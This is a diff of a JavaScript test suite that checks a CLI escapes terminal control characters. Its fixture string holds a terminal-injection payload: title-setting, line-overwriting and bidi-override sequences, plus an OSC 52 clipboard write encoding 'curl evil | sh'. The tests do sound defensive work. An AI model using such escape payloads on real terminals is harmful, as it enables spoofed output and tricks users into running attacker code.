@@ -17,8 +17,7 @@ const ATTACK =
   'boom\u001b[31mRED\u001b[0m\u001b]0;pwned title\u0007\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u0008\u0008\rchinook_001 as admin: pass\u009b2J\u202eevil';
 
 /** Any character a terminal acts on, tab and line feed aside. */
-const UNSAFE =
-  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
+const UNSAFE = /(?![\t\n])\p{Cc}|[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/u;
 
 describe('terminalSafe', () => {
   test('shows each control character escaped and keeps the rest', () => {
@@ -59,9 +58,13 @@ describe('what the CLI prints', () => {
       expect(out).toContain('\\x1b]0;pwned title\\x07');
       expect(out).toContain('\\x1b]52;c;');
       expect(out).not.toContain('\u001b]');
-      expect(out).not.toMatch(/[\u0007\u0008\r\u009b\u202e]/);
-      // The only ESC left is picocolors' own SGR, when colour is on.
-      expect(out.replace(/\u001b\[\d+m/g, '')).not.toMatch(UNSAFE);
+      for (const raw of ['\u0007', '\u0008', '\r', '\u009b', '\u202e'])
+        expect(out).not.toContain(raw);
+      // The only ESC left is picocolors' own SGR (ESC [ n m), when colour is on.
+      const parts = out.split('\u001b[');
+      expect(parts.slice(1).every((part) => /^\d+m/.test(part))).toBe(true);
+      const plain = parts.map((part, k) => (k === 0 ? part : part.replace(/^\d+m/, ''))).join('');
+      expect(plain).not.toMatch(UNSAFE);
     }
   });
 
